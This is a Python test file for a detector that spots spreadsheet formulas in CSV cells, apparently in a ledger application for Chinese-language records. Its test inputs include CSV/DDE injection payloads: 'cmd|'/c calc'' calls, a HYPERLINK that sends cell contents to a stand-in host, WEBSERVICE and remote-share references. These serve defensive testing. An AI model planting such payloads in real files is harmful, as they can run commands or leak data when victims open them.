"""What a spreadsheet program would compute in a CSV file, and what only looks like it."""

import pytest

from ledger.media.formulas import is_formula
from tests.ledger.judging import known, refused

FORMULAS = [
    "=1+1",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("https://a.example/?"&A1,"点这里")',
    "= 已完成",
    "\t=1+1",
    "\r=1+1",
    "　=1+1",
    "＝1+1",
    "+cmd|'/c calc'!A0",
    "-cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "-2+3+cmd|'/c calc'!A0",
    "＋cmd|'/c calc'!A0",
    '+HYPERLINK("https://a.example/","点这里")',
    "-sum(A1:A9)",
    "@WEBSERVICE(A1)",
    "+'\\\\host\\share\\[a.xls]Sheet1'!A1",
    "+[a.xls]Sheet1!A1",
]
PLAIN = [
    "",
    "已完成",
    "1+1=2",
    "A=1",
    "a@example.edu.cn",
    "-5",
    "-5.2%",
    "-1,234.50",
    "+3",
    "-2021-03-01",
    "- 5",
    "+86 138 0000 0000",
    "+86-599-1234567",
    "+8613800000000",
    "(+86)138",
    "-未召开党小组会",
    "- 未按期换届；",
    "-- 无 --",
    "-王某（党员）",
    "-王某(党员)",
    "-app(学习强国)使用不足",
    "－未召开",
    "+1",
    "+ 增加一次",
    "@李某 请核对",
    "@全体",
    "=====",
    "-----",
    "=-=-=-=",
    "---",
    "=",
    "-",
    "+",
    "@",
    "-A1",
    "-2+3",
    "无-有",
    "'=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_one_however_it_begins(text):
    assert is_formula(text)


@pytest.mark.parametrize("text", PLAIN)
def test_numbers_telephones_lists_and_lines_are_none(text):
    assert not is_formula(text)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030"])
@pytest.mark.parametrize(
    "row",
    [
        "=cmd|'/c calc'!A0,1",
        "1,=cmd|'/c calc'!A0",
        '1,"=HYPERLINK(""https://a.example/"",""点"")"',
        "1;=1+1",
        "1\t=1+1",
        "1, =1+1",
        '1,"\n=1+1"',
    ],
)
def test_a_csv_with_a_formula_is_refused_with_its_row(row, encoding):
    content = f"姓名,说明\r\n张三,未召开\r\n{row}\r\n".encode(encoding)
    assert "CSV 的第3行" in refused(content, "a.csv")
    assert known(content, "a.txt")


@pytest.mark.parametrize("content", ["姓名,电话\r\n张三,+8613800000000\r\n", '甲,"乙,=1"\r\n', "- 甲\r\n- 乙\r\n"])
def test_a_csv_of_texts_is_taken_in(content):
    assert known(content.encode(), "a.csv").remarks == ()


def test_a_cell_longer_than_any_program_holds_is_refused():
    assert "第1行附近" in refused(("党" * 140_000).encode(), "a.csv")
